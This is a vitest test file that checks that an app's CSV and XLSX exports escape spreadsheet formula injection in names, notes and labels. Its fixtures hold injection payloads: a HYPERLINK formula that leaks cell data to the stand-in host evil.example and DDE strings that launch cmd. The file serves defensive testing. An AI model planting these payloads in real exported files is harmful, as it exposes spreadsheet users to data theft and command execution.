/**
 * Formula injection through the files Backchain writes (issue 11, item 3): names, groups, notes,
 * tests and session labels written by an attacker (or pasted from a phishing mail) come out of
 * every CSV and XLSX as text that starts with an apostrophe, multi-line cells included: the
 * table exports (exports.create) and the re-test comparison (retests.exportComparison).
 */
import ExcelJS from 'exceljs';
import fs from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { dispatch } from '@main/api/dispatch';
import type { MethodResult } from '@shared/contract';
import { apiCalls } from '../support/calls';
import { parseCsv, readWorkbook, savedPath, sheetRecords } from '../support/exportFiles';
import { openTempSquad, type TempSquad } from '../support/tempSquad';

let squad: TempSquad;
beforeEach(async () => {
  squad = await openTempSquad({ now: () => new Date('2026-09-07T06:00:00Z') });
});
afterEach(() => squad.close());
const { ok } = apiCalls(() => squad);

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)*cmd';
const MINUS = "-2+3+cmd|' /C calc'!A0";
const MULTI_LINE = '=HYPERLINK("http://evil.example")\nsee the second line';

/** A squad whose every text an attacker could choose is a formula. */
async function poisonedSquad() {
  const group = await ok('groups.create', { name: SUM.slice(0, 40), color: '#1c7ed6' });
  const ana = await ok('athletes.create', { givenName: HYPERLINK.slice(0, 60), familyName: CMD, groupId: group.id, injuryNotes: MULTI_LINE, injured: true });
  const ben = await ok('athletes.create', { givenName: 'Ben', familyName: MINUS, injuryNotes: `@SUM(A1:A9)\r\n=1+1` });
  const test = await ok('retests.createTest', {
    name: '=HYPERLINK("http://evil.example")',
    shortName: '@SUM(1)',
    unit: '+cm',
    higherIsBetter: true,
    decimals: 1,
    rangeMin: 0,
    rangeMax: 100,
    trials: 1,
    scoreRule: 'best',
    sided: false,
  });
  const session = await ok('retests.createSession', { date: '2026-09-03', kind: 'baseline', label: '-cmd label', notes: '', testIds: [test.id] });
  await ok('retests.saveResults', {
    sessionId: session.id,
    athletes: [ana.id, ben.id].map((athleteId, i) => ({ athleteId, tests: [{ testId: test.id, trials: [{ side: 'none' as const, trial: 1, value: 30 + i }] }] })),
  });
  return { group, ana, ben, test, session };
}

/**
 * No text cell starts (after spaces or line breaks) with a sign a spreadsheet reads as a formula;
 * returns how many cells were escaped with an apostrophe, so a test can say how many it expects.
 */
function escapedCells(records: Record<string, unknown>[]): string[] {
  const escaped: string[] = [];
  for (const record of records) {
    for (const value of Object.values(record)) {
      // A negative number in a CSV is a number, not text.
      if (typeof value !== 'string' || /^-?\d+(\.\d+)?$/.test(value)) continue;
      expect(value, 'a text cell a spreadsheet would run').not.toMatch(/^\s*[=+\-@]/);
      if (value.startsWith("'")) escaped.push(value.slice(1));
    }
  }
  return escaped.sort();
}

async function exportAthletes(format: 'csv' | 'xlsx') {
  const response = await dispatch(squad.ctx, 'exports.create', { jobId: `injection-${format}`, format, tables: ['athletes'], from: '2026-09-01', to: '2026-09-30', includeArchived: true });
  if (!response.ok) throw new Error(response.error.message);
  return savedPath(squad.ctx, (response.value as MethodResult<'exports.create'>).file);
}

/** A cell's raw type in the workbook: exceljs reads a formula as an object with `formula`. */
function noFormulas(workbook: ExcelJS.Workbook): void {
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula)));
  }
}

describe('formula injection', () => {
  it('the table export: CSV and XLSX cells of names, groups and multi-line notes start with an apostrophe', async () => {
    await poisonedSquad();
    // First name, last name, group and notes of Ana; last name and notes of Ben.
    const expected = [HYPERLINK.slice(0, 60), CMD, SUM.slice(0, 40), MULTI_LINE, MINUS, '@SUM(A1:A9)\r\n=1+1'].sort();

    const csv = parseCsv(fs.readFileSync(await exportAthletes('csv')));
    expect(escapedCells(csv.rows)).toEqual(expected);

    const workbook = await readWorkbook(await exportAthletes('xlsx'));
    noFormulas(workbook);
    const sheet = workbook.getWorksheet('Athletes');
    if (!sheet) throw new Error('no Athletes sheet');
    // The workbook keeps line breaks as the reader gives them back (exceljs reads \r\n as \n).
    expect(escapedCells(sheetRecords(sheet)).map((v) => v.replace(/\r\n/g, '\n'))).toEqual(expected.map((v) => v.replace(/\r\n/g, '\n')).sort());
  });

  it('the re-test comparison: CSV and XLSX (both sheets) escape the athlete, group, test, unit and label', async () => {
    const { session } = await poisonedSquad();
    // Ana's name and group (Ben's name starts with "Ben"), and the test and unit on both rows.
    const test = '=HYPERLINK("http://evil.example")';
    const expected = [`${HYPERLINK.slice(0, 60)} ${CMD}`, SUM.slice(0, 40), test, test, '+cm', '+cm'].sort();

    const csvFile = await ok('retests.exportComparison', { sessionId: session.id, format: 'csv' });
    const csv = parseCsv(fs.readFileSync(savedPath(squad.ctx, csvFile)));
    expect(escapedCells(csv.rows)).toEqual(expected);

    const xlsxFile = await ok('retests.exportComparison', { sessionId: session.id, format: 'xlsx' });
    const workbook = await readWorkbook(savedPath(squad.ctx, xlsxFile));
    noFormulas(workbook);
    const comparison = workbook.getWorksheet('Comparison');
    if (!comparison) throw new Error('no Comparison sheet');
    expect(escapedCells(sheetRecords(comparison))).toEqual(expected);
    // The summary: its first line is the label with the date; a row per test.
    const summary = workbook.getWorksheet('Summary');
    expect(summary?.getCell('A1').value).toBe("'-cmd label (2026-09-03)");
    const firstColumn = (summary?.getColumn(1).values ?? []).filter((v): v is string => typeof v === 'string');
    expect(firstColumn.filter((v) => v.startsWith("'"))).toEqual(["'-cmd label (2026-09-03)", "'@SUM(1)"]);
  });
});
